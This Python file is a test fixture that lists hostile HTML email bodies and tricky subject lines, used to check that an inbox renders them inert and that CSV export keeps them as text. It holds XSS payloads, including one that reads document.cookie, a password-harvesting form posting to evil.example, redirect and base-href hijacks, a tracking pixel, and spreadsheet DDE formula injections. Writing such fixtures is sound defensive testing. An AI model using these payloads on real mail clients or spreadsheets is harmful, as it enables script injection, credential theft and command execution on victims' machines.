"""Hostile and tricky content that the generated messages carry, so the demo and the tests see it.

Hostile bodies (scripts, event handlers, forms, frames, tracking pixels) must reach the reader inert;
tricky subjects (spreadsheet-formula starters, commas, quotes, line breaks, markup, other scripts,
emoji) must survive the inbox and the CSV export as text.
"""

from __future__ import annotations

HOSTILE_SUBJECT_PREFIX = "[Security test]"
HOSTILE_BODIES: list[str] = [
    "<p>Hi, please see below.</p><script>alert(1)</script><p>Thanks!</p>",
    '<p>Photo of the broken lock attached.</p><img src=x onerror=alert(1)>',
    '<p>Please <a href="javascript:alert(1)">confirm your booking here</a>.</p>',
    '<svg onload=alert(1)><circle cx="5" cy="5" r="4"/></svg><p>Our new logo</p>',
    '<p>Invoice preview:</p><iframe src="https://evil.example/phish" width="600" height="400"></iframe>',
    "<style>body{display:none}*{background:url(javascript:alert(1))}</style><p>Styled reply</p>",
    '<form action="https://evil.example/steal" method="post"><p>Session expired, sign in again:</p>'
    '<input name="password" type="password"><button type="submit">Sign in</button></form>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff" '
    'onmouseover="alert(1)">Click anywhere to continue</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Redirecting…</p>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><p>Embedded file</p>',
    '<a href=" JaVaScRiPt:alert(1)">mixed-case link</a> and '
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data: link</a>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '"><script>alert(document.cookie)</script><p>Broken out of an attribute</p>',
    '<base href="https://evil.example/"><p>Log in <a href="/login">here</a> to see the document.</p>',
    '<p>Unclosed <b>tags <i>everywhere <table><tr><td>cell',
    '<img src="https://tracker.example/pixel.gif?u=4711" width="1" height="1" alt=""><p>Newsletter</p>',
]

TRICKY_SUBJECTS: list[str] = [
    '=HYPERLINK("http://evil.example","click")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1 555 0100 callback",
    "-- urgent",
    "-2+3 invoice adjustment",
    "@channel please read",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\tTab at the start",
    'Invoice #42, "final" version, not the draft',
    "Line one\nline two of the subject",
    "Semicolons; commas, and \"quotes\" 'everywhere'",
    '<b>Bold</b> subject with <script>alert("subject")</script>',
    "🎉 Friday drinks on the roof? 🍕🍻",
    "Réservation de la salle – déjà payée ?",
    "关于会议室预订的问题",
    "استفسار عن الفاتورة",
    "Ερώτηση για την κράτηση",
    "Вопрос по счёту за март",
    "Very long subject " + "that keeps going " * 20,
]
